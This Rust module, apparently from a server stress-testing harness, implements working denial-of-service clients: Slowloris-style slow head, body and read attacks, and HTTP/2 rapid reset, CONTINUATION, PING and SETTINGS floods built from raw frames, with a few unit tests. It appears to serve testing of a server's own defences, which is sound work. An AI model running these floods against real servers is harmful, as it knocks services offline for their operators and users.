//! What clients do that only want to cost something.

use std::{io, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    time::{Instant, interval, sleep, timeout_at},
};

use crate::{
    cell::LONG_PATH,
    line::{Door, Line, Protocol},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// GET http://a/v1/users/u1, packed.
const GET: &[u8] = b"\x82\x86\x44\x0c/v1/users/u1\x41\x01a";
/// A flooding connection sends a batch of so many frames, again and again after the pause: a hostile machine is not this one, so its
/// speed is set and not whatever the processor has left.
const BATCH: u32 = 100;
const PAUSE: Duration = Duration::from_millis(10);
/// A slow client says or takes a byte so often.
const DRIP: Duration = Duration::from_millis(500);

const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// One way to be a nuisance.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// A head that drips.
    SlowHead,
    /// A body that drips.
    SlowBody,
    /// An answer that is taken byte by byte.
    SlowRead,
    /// Requests that are reset as soon as they are made.
    RapidReset,
    /// A head that never ends.
    Continuations,
    /// Pings.
    Pings,
    /// Settings.
    Settings,
}

impl Attack {
    /// All of them.
    pub(crate) const ALL: [Self; 7] = [
        Self::SlowHead,
        Self::SlowBody,
        Self::SlowRead,
        Self::RapidReset,
        Self::Continuations,
        Self::Pings,
        Self::Settings,
    ];

    /// As people call it.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::SlowHead => "slow head",
            Self::SlowBody => "slow body",
            Self::SlowRead => "slow read",
            Self::RapidReset => "rapid reset",
            Self::Continuations => "CONTINUATION flood",
            Self::Pings => "PING flood",
            Self::Settings => "SETTINGS flood",
        }
    }

    /// Connections at a time: slow ones are many, fast ones few.
    pub(crate) fn connections(self) -> u32 {
        if self.protocol() == Protocol::Http1 { 500 } else { 8 }
    }

    fn protocol(self) -> Protocol {
        match self {
            Self::SlowHead | Self::SlowBody | Self::SlowRead => Protocol::Http1,
            _ => Protocol::Http2,
        }
    }

    /// Attacks on one connection, and on a new one as soon as that is cut, until the time is over. Says how often it was cut.
    pub(crate) async fn run(self, door: Door, until: Instant) -> u64 {
        let mut cut = 0;
        while Instant::now() < until {
            let once = async {
                let line = match self {
                    Self::SlowRead => door.open_narrow(self.protocol()).await?,
                    _ => door.open(self.protocol()).await?,
                };
                self.annoy(line).await
            };
            match timeout_at(until, once).await {
                Ok(_) => cut += 1,
                Err(_) => break,
            }
            sleep(PAUSE).await;
        }
        cut
    }

    /// Goes on until the connection is cut.
    async fn annoy(self, mut line: Line) -> io::Result<()> {
        match self {
            Self::SlowHead => {
                line.write_all(b"GET /v1/users/u1 HTTP/1.1\r\nHost: a\r\nX-Slow: ").await?;
                drip(&mut line).await
            }
            Self::SlowBody => {
                let head =
                    "POST /v1/users/u1 HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n";
                line.write_all(head.as_bytes()).await?;
                drip(&mut line).await
            }
            Self::SlowRead => {
                let head = format!("GET /v1/users/u1{LONG_PATH} HTTP/1.1\r\nHost: a\r\n\r\n");
                line.write_all(head.as_bytes()).await?;
                let mut beat = interval(DRIP);
                loop {
                    beat.tick().await;
                    line.read_u8().await?;
                }
            }
            _ => self.flood(line).await,
        }
    }

    async fn flood(self, line: Line) -> io::Result<()> {
        let (mut heard, mut said) = tokio::io::split(line);
        let listening = async {
            let mut piece = [0; 4 * 1024];
            while heard.read(&mut piece).await? > 0 {}
            Ok(())
        };
        let saying = async {
            let begin = [PREFACE, &frame(SETTINGS, 0, 0, b"")].concat();
            said.write_all(&begin).await?;
            let (mut beat, mut number) = (interval(PAUSE), 0);
            loop {
                beat.tick().await;
                let batch: Vec<u8> =
                    (number..number + BATCH).flat_map(|number| self.frames(number)).collect();
                number += BATCH;
                said.write_all(&batch).await?;
            }
        };
        tokio::select! { heard = listening => heard, said = saying => said }
    }

    fn frames(self, number: u32) -> Vec<u8> {
        let stream = 2 * number + 1;
        match self {
            Self::RapidReset => {
                let open = frame(HEADERS, END_HEADERS | END_STREAM, stream, GET);
                [open, frame(RESET, 0, stream, b"\0\0\0\x08")].concat()
            }
            Self::Continuations if number == 0 => frame(HEADERS, END_STREAM, 1, GET),
            Self::Continuations => {
                let field = [&b"\0\x08x-filler\x7f\x81\x07"[..], &[b'y'; 1024]].concat();
                frame(CONTINUATION, 0, 1, &field)
            }
            Self::Settings => frame(SETTINGS, 0, 0, b"\0\x03\0\0\0\x64"),
            _ => frame(PING, 0, 0, b"12345678"),
        }
    }
}

/// Says a byte now and then until the other side has had enough.
async fn drip(line: &mut Line) -> io::Result<()> {
    let mut beat = interval(DRIP);
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            read = line.read(&mut answer) => { read?; return Ok(()) }
            _ = beat.tick() => line.write_all(b"x").await?,
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&len[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::{Attack, frame};

    #[test]
    fn a_frame_has_its_length_kind_and_stream() {
        assert_eq!(frame(6, 1, 259, b"ab"), b"\0\0\x02\x06\x01\0\0\x01\x03ab");
    }

    #[test]
    fn every_attack_has_a_name_of_its_own() {
        let names: std::collections::BTreeSet<_> = Attack::ALL.map(Attack::name).into();
        assert_eq!(names.len(), Attack::ALL.len());
    }

    #[test]
    fn the_length_of_a_filler_is_what_its_prefix_says() {
        // 0x7f is 127 and more to come; 0x81 0x07 are 1 + 7 × 128.
        let field = Attack::Continuations.frames(1);
        assert_eq!(field.len(), 9 + 1 + 1 + 8 + 3 + 127 + 1 + 7 * 128);
    }
}
